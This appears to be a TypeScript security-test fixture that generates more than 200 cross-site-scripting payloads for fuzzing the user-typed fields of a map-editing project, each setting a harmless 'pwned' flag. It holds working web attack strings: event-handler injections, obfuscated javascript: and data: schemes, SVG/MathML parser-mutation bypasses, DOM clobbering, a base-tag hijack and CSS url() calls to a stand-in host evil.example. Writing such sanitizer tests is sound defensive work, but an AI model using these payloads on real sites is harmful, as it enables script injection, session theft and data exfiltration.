/**
 * Hostile texts for every member of a project that a person types. Each would call `pwned` if it ran. The list is what is known to have worked
 * somewhere: event handlers, schemes with control characters, SVG, MathML, templates, mutations of the parser, style sheets, clobbering.
 */

const call = 'top.pwned=1';

/** Elements with a handler that runs by itself, or when the element is used. */
const handlers = [
  ['img', 'src=x onerror'],
  ['img', 'srcset=x onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['details open', 'ontoggle'],
  ['video', 'src=x onerror'],
  ['audio', 'src=x onerror'],
  ['video', 'onloadstart'],
  ['iframe', 'onload'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# id=x tabindex=1', 'onfocus'],
  ['marquee', 'onstart'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['div popover id=p', 'onbeforetoggle'],
  ['p style="animation:a 1s"', 'onanimationstart'],
  ['p style="transition:all 1s"', 'ontransitionend'],
  ['math', 'onload'],
  ['picture><source srcset=x><img src=x', 'onerror'],
] as const;

/** The spelling of names and attributes that filters miss. */
const spellings: readonly ((element: string, attribute: string) => string)[] = [
  (element, attribute) => `<${element} ${attribute}="${call}">text</${element.split(/[ >]/)[0]}>`,
  (element, attribute) => `<${element.toUpperCase()}/${attribute.toUpperCase().replaceAll(' ', '/')}=${call}>`,
  (element, attribute) => `<p>${'<b>'.repeat(20)}<${element}\n${attribute}\t=\t'${call}'`,
  (element, attribute) => `"><${element} ${attribute}=${call} x="`,
];

const schemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  ` \u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"><script>${call}</script></svg>`,
  `blob:http://evil.example/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${call}`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `feed:javascript:${call}`,
  `about:srcdoc`,
];

const links = schemes.flatMap((address) => [
  `<a href="${address.replaceAll('"', '&quot;')}">link</a>`,
  `<form action="${address.replaceAll('"', '&quot;')}"><button>send</button></form>`,
  `<iframe src="${address.replaceAll('"', '&quot;')}"></iframe>`,
]);

const documents = [
  `<script>${call}</script>`,
  `<script type=module>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onload to=${call}></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>click</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<math><annotation-xml encoding="text/html"><script>${call}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe srcdoc='&lt;script&gt;${call}&lt;/script&gt;'></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<base href="https://evil.example/"><script src="x.js"></script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel=modulepreload href="https://evil.example/x.js"><link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import url("https://evil.example/x.css");*{background:url("https://evil.example/y")}</style>`,
  `<p style="background:url(https://evil.example/z)">text</p>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${call}>">`,
  `<title><p title="</title><img src=x onerror=${call}>">`,
  `<select><style><img src=x onerror=${call}></style></select>`,
  `<table><td background="javascript:${call}"><a href="x" ping="https://evil.example/">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `<form id=x tabindex=0><input name=attributes><input name=childNodes><input name=nodeName></form>`,
  `<a id=document><a id=document name=body><img name=getElementById>`,
  `<mapwright-map src="https://evil.example/p/x"></mapwright-map>`,
  `<p slot=x is=mapwright-map part=popup class=popup id=popup-title>text</p>`,
  `</div></div><script>${call}</script>`,
  `\u0000<script>${call}</script>`,
  `<\u0000script>${call}</script>`,
  `<img src="\`\`onerror=${call}">`,
  `<p>${'<div>'.repeat(600)}<img src=x onerror=${call}>`,
];

const colours = [
  `red;background:url(https://evil.example/c)`,
  `url(https://evil.example/c)`,
  `url("javascript:${call}")`,
  `expression(${call})`,
  `var(--x, url(https://evil.example/c))`,
  `#fff"/><script>${call}</script>`,
  `image-set("https://evil.example/c" 1x)`,
  `rgb(0 0 0)}</style><script>${call}</script>`,
  `${'a'.repeat(100_000)}`,
  '__proto__',
  'constructor',
  'inherit',
];

/** More than 200 texts. */
export const payloads: readonly string[] = [
  ...handlers.flatMap(([element, attribute]) => spellings.map((spell) => spell(element, attribute))),
  ...schemes,
  ...links,
  ...documents,
  ...colours,
];

/** A spot or a polygon in a grid, with a payload in its name, its colours and its link. */
export const hostileObject = (text: string, at: number) => ({
  name: text,
  type: at % 2 === 0 ? 'spot' : 'poly',
  x: (at % 20) * 40,
  y: Math.floor(at / 20) * 40,
  coords: [0, 1, 2].map((corner) => ({ x: (at % 20) * 40 + corner * 10, y: Math.floor(at / 20) * 40 + (corner % 2) * 20 })),
  color: text,
  stroke_color: text,
  hover_color: text,
  click_action_url: text,
});

/**
 * An expression of the page: a promise for the end of every picture below `root`, loaded or not, so that the handlers of payloads have run. The
 * pictures that it adds are requested and fail after those of the payloads.
 */
export const picturesFailed = (root: string): string => `(async () => {
  const over = (image) => image.complete || new Promise((resolve) => { image.onload = image.onerror = resolve; });
  for (let round = 0; round < 2; round++) {
    const last = new Image();
    last.src = '/no-picture-' + round;
    await new Promise((resolve) => { last.onerror = resolve; });
    await Promise.all([...${root}.querySelectorAll('img')].map(over));
  }
})()`;
